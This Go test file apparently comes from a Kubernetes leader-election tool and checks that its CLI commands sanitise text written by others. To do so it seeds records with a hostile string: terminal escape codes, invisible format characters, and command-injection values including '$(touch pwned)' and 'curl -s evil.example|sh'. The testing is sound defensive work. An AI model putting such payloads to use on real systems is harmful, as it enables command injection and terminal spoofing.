// Copyright The zonelect Authors.
// SPDX-License-Identifier: Apache-2.0

package command

import (
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/zonelect/zonelect/internal/apitest"
	"github.com/zonelect/zonelect/internal/presence"
	"github.com/zonelect/zonelect/internal/record"
)

// hostile is a text that a terminal, a shell or a reader takes for more than a text.
const hostile = "x\tFORGED\n\rFORGED\u2028FORGED\u0085FORGED\v\fFORGED" + // lines and columns
	"\x00\x07\x7f\x1b[2J\x1b]0;owned\x07\u009b2J\u0090q\u009c\u202elive\u2066x\u200b\ufeff\u00ad\U000e0041\xff\xc2" +
	"$(touch pwned)%s%!d{{.}}`touch pwned`'; curl -s evil.example|sh & touch pwned #\""

// lines are calls of the commands that print what others wrote.
var lines = []string{
	"status", "status op", "status -A", "doctor", "doctor op", "doctor rec", "audit --for 16s",
	"handover op --timeout 2s", "handover rec --timeout 2s", "evacuate za --timeout 2s", "evacuate zb --dry-run", "restore za",
	"migrate plan op", "migrate plan rec", "migrate advance op -l app=op --yes --timeout 2s", "migrate advance rec --dry-run",
	"migrate rollback op --yes --timeout 2s", "migrate clean op --dry-run",
	"status op -o json", "status -o yaml", "doctor op -o json", "audit -o json --for 1s", "migrate plan op -o json",
}

// attacked makes locks in which everything that others write is hostile.
func (w *world) attacked(text string) {
	holder, zone := "op-a_1"+text, "za"+text
	writes := func(o map[string]string, keys ...string) {
		for _, key := range keys {
			o[key] = text
		}
	}
	owner := metav1.OwnerReference{APIVersion: "v1", Kind: "Pod", Name: "old-0" + text, UID: "uid-old"}
	w.putLease(newLease("op", holder, zone, phased(record.PhaseDual, 1), func(l *coordinationv1.Lease) {
		writes(l.Annotations, record.AnnotationRefused, record.AnnotationEvacuated, record.AnnotationHandover)
		previous, _ := json.Marshal(apitest.Object{"holder": text, "until": "2000-01-01T00:00:00Z", "cause": text}) // it can be written
		l.Annotations[record.AnnotationPrevious] = string(previous)
		l.Annotations[record.AnnotationNode], l.Annotations[record.AnnotationPod] = "node"+text, "pod"+text+"/uid"+text
	}))
	w.putConfigMap("op", map[string]string{text: text}, owner)
	w.putLease(newLease("rec", "rec-a_1"+text, "zb"+text, phased(record.PhaseDual, 1), func(l *coordinationv1.Lease) {
		l.Annotations[record.AnnotationLegacy] = "annotation/endpoints/rec"
		l.Annotations[record.AnnotationShared] = text
	}))
	w.putEndpoints("rec", renewedBy("legacy"+text))
	w.putLease(newLease("lost", "lost"+text, zone, phased(record.PhaseDual, 1), renewed(time.Hour), func(l *coordinationv1.Lease) {
		l.Annotations[record.AnnotationLegacy], l.Annotations[record.AnnotationPhase] = "annotation/configmaps/"+text, text
	}))
	w.putLease(newLease("bare", "", zone, func(l *coordinationv1.Lease) { writes(l.Annotations, record.AnnotationReleased) }))
	for _, pod := range []string{"op-a", "op-b"} {
		w.announce("op", pod, "z"+pod[3:], "", func(o *presence.Object) {
			o.Identity, o.Zone, o.Node = pod+"_1"+text, o.Zone+text, "node"+text
			o.Waiting, o.Unhealthy, o.Mode = text, text, text
		})
	}
	w.announce("rec", "op-a", "za", text, func(o *presence.Object) { o.Zone = zone })
	w.runs("old-1")
	w.server.Change("/api/v1/namespaces/ns/pods/old-1", func(o apitest.Object) {
		o["metadata"].(apitest.Object)["name"], o["spec"].(apitest.Object)["nodeName"] = "old-1"+text, "node"+text
		o["status"].(apitest.Object)["reason"], o["status"].(apitest.Object)["message"] = text, text
	})
	w.hosts("op-b", "zb", func(p *corev1.Pod, n *corev1.Node) {
		p.Status.Phase, p.Spec.ServiceAccountName, p.Annotations = corev1.PodPhase(text), text, map[string]string{"a": text}
		n.Labels[corev1.LabelTopologyZone], n.Status.Conditions = "zb", nil
	})
}

// unplain says what a text has that people do not see, or what it forges; empty if it has nothing.
func unplain(text string) string {
	if regexp.MustCompile(`(?m)^FORGED|x {2,}FORGED`).MatchString(text) {
		return "a row or a column is forged"
	}
	if !utf8.ValidString(text) {
		return "it is not UTF-8"
	}
	for _, r := range strings.ReplaceAll(text, "\n", "") {
		if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			return fmt.Sprintf("it has %U", r)
		}
	}
	return ""
}

// TestNoTextOfOthersIsMoreThanAText: whatever others write, no command prints a control or a
// format character, forges a row or breaks a format.
func TestNoTextOfOthersIsMoreThanAText(t *testing.T) {
	for _, line := range lines {
		for _, refused := range []string{"", "update", "list"} { // by the API server, with a hostile reason
			inABubble(t, func(w *world) {
				w.attacked(hostile)
				w.before(func(verb, _ string) (int, apitest.Object) {
					if verb == refused {
						reason := "admission webhook denied the request: " + hostile
						return http.StatusForbidden, apitest.Status(http.StatusForbidden, "Forbidden", reason, hostile, hostile, hostile)
					}
					return 0, nil
				})
				r := w.run(strings.Fields(line)...)
				var read any
				if err := json.Unmarshal([]byte(r.out), &read); strings.HasSuffix(line, "json") && r.out != "" && err != nil {
					t.Errorf("%q: %v: %.300q", line, err, r.out)
				}
				for _, out := range []string{r.out, r.errors} {
					if fault := unplain(out); fault != "" || r.out+r.errors == "" {
						t.Errorf("%q: %s: %.300q", line, fault, out)
					}
				}
			})
		}
	}
}

// TestNoHintHasATextOfOthers: people copy what doctor says that they can do.
func TestNoHintHasATextOfOthers(t *testing.T) {
	for _, line := range []string{"doctor", "doctor op", "doctor rec", "doctor lost"} {
		inABubble(t, func(w *world) {
			w.attacked(hostile)
			hints := w.run(append(strings.Fields(line), "-o", "jsonpath={.findings[*].hint}")...).out
			if strings.Contains(hints, "pwned") || strings.Contains(hints, "evil") || strings.ContainsAny(hints, "$`|&\ufffd") || hints == "" {
				t.Errorf("%s: %s", line, hints)
			}
		})
	}
}
